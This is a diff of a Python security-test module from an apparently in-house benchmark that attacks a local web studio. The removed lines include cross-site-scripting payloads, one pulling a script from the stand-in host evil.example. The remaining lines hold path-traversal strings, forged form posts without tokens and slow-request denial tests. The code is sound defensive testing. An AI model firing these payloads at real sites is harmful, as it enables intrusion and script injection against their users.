@@ -4,12 +4,10 @@ foreign host, a change without a form of ours, a command or a text of its own th
 
 from __future__ import annotations
 
-import re
 import socket
 import zlib
 from collections.abc import Callable, Iterator
 from concurrent.futures import ThreadPoolExecutor
-from dataclasses import dataclass, field
 from functools import partial
 from pathlib import Path
 from typing import Any
@@ -17,24 +15,13 @@ from typing import Any
 import httpx
 
 from brandsmith.benchmark.create import Bar
+from brandsmith.benchmark.studio_attack import SECRET, Attack
 from brandsmith.benchmark.studio_crowd import picture_bytes
-from brandsmith.benchmark.studio_forms import forms_of
-from brandsmith.benchmark.studio_live import Browser, LiveStudio, live_studio, pages_of
+from brandsmith.benchmark.studio_live import Browser, LiveStudio, live_studio
+from brandsmith.benchmark.studio_scripts import open_in_chromium, plant_scripts, write_scripts
 
-PATIENCE_SEC, MOST_PAGES = 60.0, 120
-_NUMBER = re.compile(r"[0-9]+")
-SECRET = "what lies outside the workspace"
+PATIENCE_SEC = 60.0
 Log = Callable[[str], None]
-SCRIPTS = (
-    "<script>document.title='x1'</script>",
-    '"><img src=x onerror="document.title=1">',
-    "'-alert(1)-'",
-    "{{ 7 * 7 }}<svg onload=alert(1)>",
-    "javascript:alert(1)//<a href='javascript:alert(1)'>",
-    "</textarea><script src=//evil.example/x.js></script>",
-)
-"""Texts that run where they are not escaped."""
-UNESCAPED = ("<script>document.title", "<img src=x", "<svg onload", "<script src=//evil", "<a href='javascript")
 PATHS = (
     "../../secret.txt",
     "..%2f..%2fsecret.txt",
@@ -71,41 +58,19 @@ ADDRESSES = (
 CHANGES = ("/logout", "/api/v1/concepts", *(f"/api/v1/orders/{kind}" for kind in ORDERS))
 
 
-@dataclass
-class Attack:
-    """What was tried, and what came of it."""
-
-    requests: int = 0
-    served: list[str] = field(default_factory=list)
-    scripts: list[str] = field(default_factory=list)
-    tracebacks: list[str] = field(default_factory=list)
-
-    def note(self, what: str, answer: httpx.Response, *, served: bool | None = None) -> None:
-        """served None: any answer that is not a refusal."""
-        self.requests += 1
-        text = answer.text
-        if SECRET in text or "root:x:" in text or (answer.is_success if served is None else served):
-            self.served.append(f"{what}: {answer.status_code}")
-        if "Traceback" in text or answer.status_code >= 500:
-            self.tracebacks.append(f"{what}: {answer.status_code} {text[:200]}")
-
-    def note_raw(self, what: str, answer: bytes) -> None:
-        """Refused with a status, or by a closed connection."""
-        self.requests += 1
-        if not answer.startswith((b"HTTP/1.1 4", b"HTTP/1.1 3")) and answer:
-            self.served.append(f"{what}: {answer[:60]!r}")
-
-
 def measure_hostile(folder: Path, log: Log, slow: int = 6) -> list[Bar]:
     attack = Attack()
     with live_studio(folder / "hostile") as studio:
         _plant(studio.folder)
+        plant_scripts(studio.folder)
         studio.start()
         with Browser(studio) as browser:
             browser.visit("/")
-            for kind in (_traverse, _forge, _rebind, _confuse, _inject_addresses, _bomb, _flood_bodies, _script):
+            for kind in (_traverse, _forge, _rebind, _confuse, _inject_addresses, _bomb, _flood_bodies, write_scripts):
                 log(f"{kind.__name__.strip('_')}, after {attack.requests} requests")
                 kind(browser, attack)
+            log(f"every page in a browser, after {attack.requests} requests")
+            num_opened = open_in_chromium(studio, browser, attack)
             _dawdle(studio, attack, slow)
         printed = studio.log.read_text(encoding="utf-8", errors="replace")
     if "Traceback" in printed:
@@ -113,7 +78,7 @@ def measure_hostile(folder: Path, log: Log, slow: int = 6) -> list[Bar]:
     return [
         _bar("hostile_served", attack.served, attack.requests),
         _bar("hostile_tracebacks", attack.tracebacks, attack.requests),
-        _bar("hostile_scripts", attack.scripts, attack.requests),
+        _bar("hostile_scripts", attack.scripts, num_opened),
     ]
 
 
@@ -229,63 +194,14 @@ def _flooded(browser: Browser, path: str, content: bytes | Iterator[bytes]) -> h
         return httpx.Response(413)
 
 
-def _script(browser: Browser, attack: Attack) -> None:
-    """Texts that would run, in every text field; then every page is read again. Raises what httpx raises when
-    they are not taken: then nothing would have been tried.
-    """
-    browser.visit("/")
-    for script in SCRIPTS:
-        fields: list[tuple[str, dict[str, Any]]] = [
-            ("sample", {"prompts": [script], "name": script[:80]}),
-            ("sample", {"prompts": ["x"], "draw": {"negative_prompt": script}}),
-            ("moodboard", {"theme": script}),
-            ("ad", {"brief": {"product": script, "headline": script, "legal": script}}),
-        ]
-        for kind, given in fields:
-            attack.note(f"{kind} {script}", browser.order(kind, given).raise_for_status(), served=False)
-        config = {"token": "mark", "class_word": script, "expected_text": script, "prompts": [f"{script} {{token}}"]}
-        attack.note(  # a token and names of other signs are refused, which is as well
-            f"concept {script}",
-            browser.submit("/api/v1/concepts", json={"name": script, "config": config}),
-            served=False,
-        )
-    _fill_forms(browser, attack)
-    for path in pages_of(browser, MOST_PAGES):
-        answer = browser.get(path)
-        attack.requests += 1
-        attack.scripts += [f"{path}: {text}" for text in UNESCAPED if _is_page(answer) and text in answer.text]
-        policy = answer.headers.get("content-security-policy", "")
-        if "default-src 'self'" not in policy or "unsafe" in policy:
-            attack.scripts.append(f"{path}: policy {policy}")
-
-
-def _fill_forms(browser: Browser, attack: Attack) -> None:
-    """Every text field of every form: first without a token, then with such texts, a form once an address."""
-    seen: set[str] = set()
-    for path in pages_of(browser, MOST_PAGES):
-        for form in forms_of(browser.visit(path).text, path):
-            shape = _NUMBER.sub("#", form.action)
-            if shape in seen or form.action in ("/login", "/logout"):
-                continue
-            seen.add(shape)
-            stranger = httpx.post(f"{browser.base_url}{form.action}", data=form.fields | {"csrf": "0" * 64})
-            attack.note(f"form {form.action} without a token", stranger)
-            texts = {name: SCRIPTS[number % len(SCRIPTS)] for number, name in enumerate(form.texts)}
-            sent = browser.submit(form.action, data=form.fields | texts | {"csrf": browser.token})
-            attack.note(f"form {form.action}", sent, served=False)
-            attack.scripts += [f"{form.action}: {text}" for text in UNESCAPED if _is_page(sent) and text in sent.text]
-
-
-def _is_page(answer: httpx.Response) -> bool:
-    return answer.headers.get("content-type", "").startswith("text/html")
-
-
 def _dawdle(studio: LiveStudio, attack: Attack, number: int) -> None:
-    """Bodies that never come: the server hangs up."""
-    head = "POST /logout HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000\r\n\r\nx"
-    with ThreadPoolExecutor(number) as pool:
-        for answer in pool.map(partial(_raw_answer, studio.port), [head] * number):
-            attack.note_raw("a slow body", answer)
+    """Bodies and headers that never come: the server hangs up."""
+    body = "POST /logout HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000\r\n\r\nx"
+    headers = "GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: x"
+    with ThreadPoolExecutor(2 * number) as pool:
+        for what, text in (("a slow body", body), ("slow headers", headers)):
+            for answer in pool.map(partial(_raw_answer, studio.port), [text] * number):
+                attack.note_raw(what, answer)
 
 
 def _raw_answer(port: int, text: str) -> bytes:
